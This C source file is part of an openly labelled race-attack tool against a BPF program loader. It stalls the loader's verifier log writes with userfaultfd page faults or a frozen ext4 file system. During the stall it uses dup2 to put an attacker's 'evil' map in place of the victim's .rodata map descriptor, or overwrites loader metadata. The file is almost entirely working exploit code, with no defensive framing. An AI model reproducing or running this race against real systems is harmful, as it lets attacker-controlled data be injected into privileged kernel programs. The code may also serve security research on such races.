// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - a log buffer whose page faults wait: the loader sleeps for as long as one likes
 *
 * Two ways to make a page fault wait: userfaultfd, and a file on a file system that is frozen.
 */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/fs.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "race.h"

#define LOG_SIZE (1024 * 1024)
#define PAGE	 4096

static struct {
	int uffd;
	char *fault;  /* log buffer whose faults come to uffd */
	int fs;	      /* a directory on the file system to freeze */
	char *frozen; /* log buffer in a file there */
} stall;

static void set_log(struct ctx *c, void *buf)
{
	uint32_t level = 2, size = LOG_SIZE;
	uint64_t addr = (uintptr_t)buf;

	memcpy(c->bytes + 8, &level, 4);
	memcpy(c->bytes + 12, &size, 4);
	memcpy(c->bytes + 16, &addr, 8);
}

static int fault_open(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register reg = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	stall.fault = mmap(NULL, LOG_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	stall.uffd = syscall(__NR_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (stall.uffd < 0 || stall.fault == MAP_FAILED)
		return -errno;
	stall.uffd = race_high(stall.uffd);
	reg.range.start = (uintptr_t)stall.fault;
	reg.range.len = LOG_SIZE;
	if (ioctl(stall.uffd, UFFDIO_API, &api) || ioctl(stall.uffd, UFFDIO_REGISTER, &reg))
		return -errno;
	return 0;
}

/**
 * stall_fault_before() - a log buffer none of whose pages is there
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int stall_fault_before(struct race *r)
{
	int err = stall.fault ? 0 : fault_open();

	if (err)
		return err;
	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
	set_log(&r->ctx, stall.fault);
	err = number_prog_before(r);
	return err ? err : number_before(r);
}

/**
 * stall_twin_before() - the same, and a BTF as good as the loader's
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int stall_twin_before(struct race *r)
{
	int err = stall_fault_before(r);

	return err < 0 ? err : btf_copy_before(r);
}

/* The address of the fault in which the loader waits, or 0. */
static uint64_t fault_now(void)
{
	struct pollfd p = {.fd = stall.uffd, .events = POLLIN};
	struct uffd_msg msg;

	if (poll(&p, 1, 0) != 1 || read(stall.uffd, &msg, sizeof(msg)) != sizeof(msg))
		return 0;
	return msg.event == UFFD_EVENT_PAGEFAULT ?
		       msg.arg.pagefault.address & ~(uint64_t)(PAGE - 1) : 0;
}

static void take_page(void)
{
	madvise(stall.fault, LOG_SIZE, MADV_DONTNEED);
}

/* Is the loader past its BTF? One that shares no table with it sees that by the ids. */
static bool begun(const struct race *r)
{
	int fd;

	if (!(r->attempt->flags & FOREVER))
		return number_open(r->base);
	fd = map_by_id(r->last_id + 1);
	close(fd);
	return fd >= 0;
}

/*
 * Wait for the loader to wait; 0 when it has ended. The page is taken away when its BTF is there:
 * nothing is logged until the first program. Where the BTF's number is hidden, again and again.
 */
static uint64_t fault_wait(struct race *r, bool again)
{
	bool seen = !again;
	uint64_t addr = 0;

	while (r->running && !(addr = fault_now())) {
		bool open = begun(r);

		if (!seen && (open || rand() % 8 == 0))
			take_page();
		seen = seen || open;
		race_step(r);
	}
	return addr;
}

static void fault_release(uint64_t addr)
{
	struct uffdio_zeropage zero = {.range = {addr, PAGE}};

	ioctl(stall.uffd, UFFDIO_ZEROPAGE, &zero);
	ioctl(stall.uffd, UFFDIO_WAKE, &zero.range);
}

/**
 * stall_each() - let the loader wait as often as it can be made to
 * @r: the round
 * @act: called while it waits; true: that was all
 */
void stall_each(struct race *r, bool (*act)(struct race *r))
{
	bool all = false;
	uint64_t addr;

	while ((addr = fault_wait(r, !all))) {
		all = all || act(r);
		fault_release(addr);
		/* Taken away at once, the page would be missing again before it is used, for ever. */
		if (!all)
			usleep(1000);
	}
}

static bool act_number(struct race *r)
{
	int n = r->base + r->victim->rodata;

	if (number_open(r->base + r->victim->maps)) {
		dup2(r->evil[0], n);
		return true;
	}
	/* Where the number is reserved and not in the table, this must fail. */
	if (!number_open(n) && dup2(r->evil[0], n) == n)
		close(n);
	return false;
}

/**
 * stall_fault_number() - own map over the number of .rodata while the loader waits
 * @r: the round
 */
void stall_fault_number(struct race *r)
{
	stall_each(r, act_number);
}

/* With a table of its own, this thread sees by the ids how far the loader is, or guesses. */
static bool act_twin(struct race *r)
{
	int map = map_by_id(r->last_id + r->victim->maps);

	if (map < 0 && rand() % 200)
		return false;
	close(map);
	twice_scribble(r);
	return true;
}

/**
 * stall_fault_twin() - a second run writes its numbers into the metadata while the loader waits
 * @r: the round
 */
void stall_fault_twin(struct race *r)
{
	twice_leave(r);
	stall_each(r, act_twin);
}

static int frozen_open(void)
{
	char dir[200], command[600], path[300];
	int fd;

	snprintf(dir, sizeof(dir), "%s/race.XXXXXX", getenv("TMPDIR") ?: "/tmp");
	if (!mkdtemp(dir))
		return -errno;
	snprintf(command, sizeof(command),
		 "PATH=$PATH:/sbin:/usr/sbin; cd '%s' && truncate -s 16M image && mkdir fs &&"
		 "mkfs.ext4 -q -O ^has_journal image && mount \"$(losetup -f --show image)\" fs",
		 dir);
	if (system(command))
		return -ENODEV;
	snprintf(path, sizeof(path), "%s/fs", dir);
	stall.fs = race_high(open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	snprintf(path, sizeof(path), "%s/fs/log", dir);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0 || ftruncate(fd, LOG_SIZE))
		return -errno;
	stall.frozen = mmap(NULL, LOG_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return stall.frozen == MAP_FAILED ? -errno : 0;
}

/**
 * stall_freeze_before() - a log buffer in a file on a frozen file system
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int stall_freeze_before(struct race *r)
{
	int err = stall.frozen ? 0 : frozen_open();

	if (err)
		return err;
	memset(stall.frozen, 0, PAGE);
	set_log(&r->ctx, stall.frozen);
	if (ioctl(stall.fs, FIFREEZE, 0))
		return -errno;
	return number_before(r);
}

/**
 * stall_freeze_number() - thaw for moments until all maps are made, then swap while it waits
 * @r: the round
 */
void stall_freeze_number(struct race *r)
{
	while (r->running && !number_open(r->base + r->victim->maps)) {
		ioctl(stall.fs, FITHAW, 0);
		ioctl(stall.fs, FIFREEZE, 0);
		race_step(r);
	}
	if (r->running)
		dup2(r->evil[0], r->base + r->victim->rodata);
	ioctl(stall.fs, FITHAW, 0);
}
